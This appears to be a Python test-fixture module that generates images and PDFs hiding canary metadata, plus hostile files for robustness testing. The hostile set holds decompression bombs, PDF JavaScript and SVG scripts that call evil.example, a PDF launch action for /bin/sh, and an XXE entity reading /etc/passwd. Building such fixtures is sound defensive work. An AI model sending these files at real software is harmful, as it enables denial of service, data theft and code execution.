"""Files that want to harm whoever opens them, and files with secrets beside their pixels."""

import io
import random
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from functools import cache, partial
from typing import Any

from PIL import Image
from PIL.PngImagePlugin import PngInfo

Maker = Callable[[], bytes]
CANARY = "CANARY-Rosa-Navarro"
PLACE = (40.0, 26.0, 46.0)
XMP = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:li>{CANARY}</rdf:li></x:xmpmeta>'.encode()


class Files(Mapping[str, tuple[str, bytes]]):
    """Files by what they are: media type and content. Each is made when it is first asked for, because some take seconds."""

    def __init__(self, makers: dict[str, tuple[str, Maker]]) -> None:
        self.makers = {name: (media_type, cache(make)) for name, (media_type, make) in makers.items()}

    def __getitem__(self, name: str) -> tuple[str, bytes]:
        media_type, make = self.makers[name]
        return media_type, make()

    def __iter__(self) -> Iterator[str]:
        return iter(self.makers)

    def __len__(self) -> int:
        return len(self.makers)


def picture(mode: str = "RGB", size: tuple[int, int] = (640, 480)) -> Image.Image:
    """Return a picture that is not all of one colour."""
    return Image.radial_gradient("L").resize(size).convert(mode)


def saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    """Return a picture as a file."""
    made = io.BytesIO()
    image.save(made, kind, **options)
    return made.getvalue()


def exif() -> Image.Exif:
    """Return EXIF with an author, a place, a description and a time, turned by 90 degrees."""
    found = Image.Exif()
    for tag in (0x010E, 0x010F, 0x013B, 0x8298, 0x9C9D):
        found[tag] = CANARY
    found[0x0112] = 6
    found.get_ifd(0x8825).update({1: "N", 2: PLACE, 3: "E", 4: PLACE, 29: CANARY})
    found.get_ifd(0x8769).update({0x9286: CANARY.encode(), 0xA430: CANARY})
    return found


def with_thumbnail() -> bytes:
    """Return a JPEG whose EXIF holds a smaller picture, which shows what was cut off."""
    small = saved(picture(size=(160, 120)), "JPEG", comment=CANARY.encode())
    ifd = struct.pack("<HHHHI", 42, 8, 0, 0, 0)[:0]
    ifd += b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 0) + struct.pack("<I", 14)
    ifd += (
        struct.pack("<H", 2) + struct.pack("<HHII", 0x0201, 4, 1, 44) + struct.pack("<HHII", 0x0202, 4, 1, len(small))
    )
    ifd += struct.pack("<I", 0)
    return saved(picture(), "JPEG", exif=b"Exif\0\0" + ifd.ljust(44, b"\0") + small)


def segment(marker: int, content: bytes) -> bytes:
    """Return a segment of a JPEG."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content


def jpeg_with(*segments: bytes, after: bytes = b"") -> bytes:
    """Return a JPEG with further segments behind its start, and bytes behind its end."""
    plain = saved(picture(), "JPEG")
    return plain[:2] + b"".join(segments) + plain[2:] + after


def pdf(objects: Iterable[bytes], info: bytes = b"") -> bytes:
    """Return a PDF of numbered objects; the first is its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    every = [*objects, *([info] if info else [])]
    for number, one in enumerate(every, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(every) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    about = b"/Info %d 0 R" % len(every) if info else b""
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(every) + 1, about, start)
    return bytes(out)


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return an object with a stream."""
    return b"<</Length %d%s>>\nstream\n" % (len(content), more) + content + b"\nendstream"


def page_pdf(
    drawing: bytes,
    *further: bytes,
    box: bytes = b"0 0 595 842",
    page: bytes = b"",
    root: bytes = b"",
    info: bytes = b"",
) -> bytes:
    """Return a PDF of one page; objects 5 and on are `further`."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % root,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, page),
            stream(drawing),
            *further,
        ],
        info,
    )


SQUARE = b"1 0 0 rg 100 100 200 200 re f"
ABOUT = b"<</Author(%s)/Title(%s)/Producer(%s)>>" % ((CANARY.encode(),) * 3)


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def flood(width: int, height: int) -> bytes:
    """Return a small PNG that claims a size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    rows = zlib.compress(bytes(1000) * 4000, 9)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def texts_in_png() -> bytes:
    """Return a PNG with a text in each way that there is."""
    about = PngInfo()
    about.add_text("Author", CANARY)
    about.add_text("Comment", CANARY, zip=True)
    about.add_itxt("Description", CANARY, zip=True)
    about.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return saved(picture(), "PNG", pnginfo=about, exif=exif())


SECRETS = Files(
    {
        "jpeg exif": ("image/jpeg", lambda: saved(picture(), "JPEG", exif=exif())),
        "jpeg thumbnail": ("image/jpeg", with_thumbnail),
        "jpeg comment": ("image/jpeg", lambda: saved(picture(), "JPEG", comment=CANARY.encode())),
        "jpeg xmp": ("image/jpeg", lambda: saved(picture(), "JPEG", xmp=XMP)),
        "jpeg iptc": (
            "image/jpeg",
            lambda: jpeg_with(segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\0\0" + CANARY.encode())),
        ),
        "jpeg profile": ("image/jpeg", lambda: saved(picture(), "JPEG", icc_profile=b"\0" * 128 + CANARY.encode())),
        "jpeg of another app": (
            "image/jpeg",
            lambda: jpeg_with(*[segment(0xE3 + one, CANARY.encode()) for one in range(8)]),
        ),
        "jpeg tail": ("image/jpeg", lambda: jpeg_with(after=CANARY.encode())),
        "jpeg two pictures": ("image/jpeg", lambda: jpeg_with(after=saved(picture(), "JPEG", comment=CANARY.encode()))),
        "jpeg grey": ("image/jpeg", lambda: saved(picture("L"), "JPEG", exif=exif(), comment=CANARY.encode())),
        "jpeg cmyk": ("image/jpeg", lambda: saved(picture("CMYK"), "JPEG", exif=exif())),
        "jpeg progressive": ("image/jpeg", lambda: saved(picture(), "JPEG", exif=exif(), progressive=True)),
        "png texts": ("image/png", texts_in_png),
        "png alpha": ("image/png", lambda: saved(picture("RGBA"), "PNG", exif=exif(), icc_profile=CANARY.encode())),
        "png palette": ("image/png", lambda: saved(picture("P"), "PNG", exif=exif())),
        "png 16 bits": ("image/png", lambda: saved(Image.new("I;16", (64, 64), 40000), "PNG", exif=exif())),
        "png tail": ("image/png", lambda: saved(picture(), "PNG") + CANARY.encode()),
        "webp exif": ("image/webp", lambda: saved(picture(), "WEBP", exif=exif(), xmp=XMP)),
        "webp lossless": (
            "image/webp",
            lambda: saved(picture("RGBA"), "WEBP", lossless=True, exif=exif(), icc_profile=CANARY.encode()),
        ),
        "webp moving": (
            "image/webp",
            lambda: saved(picture(), "WEBP", save_all=True, append_images=[picture()], xmp=XMP),
        ),
        "gif comment": ("image/gif", lambda: saved(picture("P"), "GIF", comment=CANARY.encode())),
        "gif moving": (
            "image/gif",
            lambda: saved(picture("P"), "GIF", save_all=True, append_images=[picture("L")], comment=CANARY),
        ),
        "tiff tags": (
            "image/tiff",
            lambda: saved(picture(), "TIFF", artist=CANARY, description=CANARY, copyright=CANARY, software=CANARY),
        ),
        "tiff exif": ("image/tiff", lambda: saved(picture(), "TIFF", exif=exif(), compression="tiff_deflate")),
        "tiff pages": (
            "image/tiff",
            lambda: saved(picture(), "TIFF", save_all=True, append_images=[picture("L")] * 2, artist=CANARY),
        ),
        "tiff bits": ("image/tiff", lambda: saved(picture("1"), "TIFF", compression="group4", description=CANARY)),
        "pdf about": ("application/pdf", lambda: page_pdf(SQUARE, info=ABOUT)),
        "pdf xmp": (
            "application/pdf",
            lambda: page_pdf(SQUARE, stream(XMP, b"/Type/Metadata/Subtype/XML"), root=b"/Metadata 5 0 R"),
        ),
        "pdf attachment": (
            "application/pdf",
            lambda: page_pdf(
                SQUARE,
                stream(CANARY.encode(), b"/Type/EmbeddedFile"),
                b"<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>",
                root=b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>",
            ),
        ),
        "pdf picture": ("application/pdf", lambda: saved(picture(), "PDF", author=CANARY, title=CANARY)),
    }
)
"""Files with secrets beside their pixels."""


def laughs(depth: int) -> bytes:
    """Return a PDF whose drawing calls another one ten times, which calls another one ten times, and so on."""
    drawings = [
        stream(
            b"/F Do " * 10 if place < depth - 1 else SQUARE,
            b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>"
            % min(place + 6, depth + 4),
        )
        for place in range(depth)
    ]
    return page_pdf(b"/F Do", *drawings, page=b"/Resources<</XObject<</F 5 0 R>>>>")


def bomb(layers: int) -> bytes:
    """Return a PDF with a drawing that is packed again and again."""
    content = zlib.compress(b"0 0 1 1 re f " * 20_000_000, 9)
    for _ in range(layers - 1):
        content = zlib.compress(content, 9)
    filters = b"/Filter[" + b"/FlateDecode" * layers + b"]"
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            stream(content, filters),
        ]
    )


def noise(beginning: bytes, seed: int) -> bytes:
    """Return random bytes with the beginning of some type."""
    return beginning + random.Random(seed).randbytes(60_000)


def cut(content: bytes, seed: int) -> bytes:
    """Return a file with a hole, some bytes changed, and no end."""
    chance, changed = random.Random(seed), bytearray(content)
    for _ in range(30):
        changed[chance.randrange(20, len(changed))] = chance.randrange(256)
    return bytes(changed[: chance.randrange(len(changed) // 2, len(changed))])


def damaged(name: str, seed: int) -> bytes:
    """Return one of the files with secrets, damaged."""
    return cut(SECRETS[name][1], seed)


_LOOP = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9/Parent 2 0 R>>"]
_MANY = [
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>",
    b"<</Type/Page/MediaBox[0 0 9 9]>>",
]
_SCRIPT = b"<</S/JavaScript/JS(app.launchURL\\('//evil.example/'\\);while\\(1\\);)>>"
_SELF = stream(b"/F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F 5 0 R>>>>")
_DEEP = b"[" * 200_000 + b"]" * 200_000
SVG = b'<svg xmlns="a"><script>fetch("//evil.example/")</script><image href="file:///etc/passwd"/></svg>'
ZIP = b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18)

_HARMING: dict[str, tuple[str, Maker]] = {
    "png flood": ("image/png", lambda: flood(60_000, 60_000)),
    "png flood of the largest numbers": ("image/png", lambda: flood(2**31 - 1, 2**31 - 1)),
    "png of one row": ("image/png", lambda: flood(2**31 - 1, 1)),
    "png without pixels": ("image/png", lambda: flood(0, 0)),
    "png text bomb": (
        "image/png",
        lambda: (
            flood(9, 9)[:33] + png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(300_000_000), 9)) + flood(9, 9)[33:]
        ),
    ),
    "png profile bomb": (
        "image/png",
        lambda: (
            flood(9, 9)[:33] + png_chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(300_000_000), 9)) + flood(9, 9)[33:]
        ),
    ),
    "gif flood": (
        "image/gif",
        lambda: (
            b"GIF89a"
            + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0)
            + bytes(6)
            + b","
            + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
            + b"\x02\x02L\x01\0;"
        ),
    ),
    "gif without end": ("image/gif", lambda: saved(picture("P"), "GIF")[:2000]),
    "webp flood": (
        "image/webp",
        lambda: b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xff\xff\xff\x0f\x00\x88\x88\x08\x07\x10\x11\x11\x88",
    ),
    "tiff flood": ("image/tiff", lambda: saved(Image.new("1", (30_000, 30_000)), "TIFF", compression="group4")),
    "tiff in a circle": ("image/tiff", lambda: b"II*\0\x08\0\0\0\0\0\x08\0\0\0"),
    "jpeg flood": (
        "image/jpeg",
        lambda: saved(picture(), "JPEG").replace(struct.pack(">HH", 480, 640), b"\xff\xff\xff\xff"),
    ),
    "jpeg cut": ("image/jpeg", lambda: saved(picture(), "JPEG")[:3000]),
    "jpeg and archive": ("image/jpeg", lambda: jpeg_with(after=ZIP)),
    "jpeg and page": ("image/jpeg", lambda: jpeg_with(segment(0xFE, b"<script>fetch('//evil.example/')</script>"))),
    "gif and script": ("image/gif", lambda: b"GIF89a/*" + bytes(9) + b"*/=1;fetch('//evil.example/')"),
    "pdf in a picture": ("image/jpeg", lambda: page_pdf(SQUARE)),
    "picture in a pdf": ("application/pdf", lambda: saved(picture(), "PNG")),
    "svg as png": ("image/png", lambda: SVG),
    "svg as pdf": ("application/pdf", lambda: b"%PDF-1.7\n" + SVG),
    "postscript": ("image/tiff", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file"),
    "pdf pages in a circle": ("application/pdf", lambda: pdf(_LOOP)),
    "pdf of two milliard pages": ("application/pdf", lambda: pdf(_MANY)),
    "pdf without pages": ("application/pdf", lambda: pdf([b"<</Type/Catalog>>"])),
    "pdf of no size": ("application/pdf", lambda: page_pdf(SQUARE, box=b"0 0 0 0")),
    "pdf of huge size": ("application/pdf", lambda: page_pdf(SQUARE, box=b"0 0 99999999999 1")),
    "pdf script": (
        "application/pdf",
        lambda: page_pdf(SQUARE, _SCRIPT, root=b"/OpenAction 5 0 R", page=b"/AA<</O 5 0 R>>"),
    ),
    "pdf launch": ("application/pdf", lambda: page_pdf(SQUARE, b"<</S/Launch/F(/bin/sh)>>", root=b"/OpenAction 5 0 R")),
    "pdf from elsewhere": (
        "application/pdf",
        lambda: page_pdf(
            b"/F Do",
            b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/a)/Length 0>>\nstream\n\nendstream",
            page=b"/Resources<</XObject<</F 5 0 R>>>>",
        ),
    ),
    "pdf drawing itself": (
        "application/pdf",
        lambda: page_pdf(b"/F Do", _SELF, page=b"/Resources<</XObject<</F 5 0 R>>>>"),
    ),
    "pdf laughs": ("application/pdf", lambda: laughs(12)),
    "pdf bomb": ("application/pdf", lambda: bomb(3)),
    "pdf of brackets": ("application/pdf", lambda: page_pdf(_DEEP)),
    "pdf of open brackets": (
        "application/pdf",
        lambda: pdf([b"<</Type/Catalog/Pages 2 0 R/A " + _DEEP + b">>", b"<<>>"]),
    ),
    "pdf forms": (
        "application/pdf",
        lambda: page_pdf(
            SQUARE,
            b"<</XFA 6 0 R>>",
            stream(b"<xdp><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;</xdp>"),
            root=b"/AcroForm 5 0 R",
        ),
    ),
    "nothing as pdf": ("application/pdf", lambda: b""),
    "nothing as jpeg": ("image/jpeg", lambda: b""),
}
_BEGINNINGS = [(b"%PDF-1.7\n", "application/pdf"), (b"\xff\xd8\xff\xe0", "image/jpeg"), (b"\x89PNG\r\n\x1a\n", "image/png"), (b"GIF89a", "image/gif"),
     (b"RIFF\0\0\0\0WEBPVP8 ", "image/webp"), (b"II*\0\x08\0\0\0", "image/tiff")]  # fmt: skip
_NOISE = {
    f"noise as {media_type}": (media_type, partial(noise, beginning, number))
    for number, (beginning, media_type) in enumerate(_BEGINNINGS)
}
_DAMAGED = {
    f"damaged {name}": (SECRETS.makers[name][0], partial(damaged, name, number))
    for number, name in enumerate(sorted(SECRETS))
    if number % 2
}
HOSTILE = Files(_HARMING | _NOISE | _DAMAGED)
"""Files that want to harm, by what they do, with the type as which they come."""
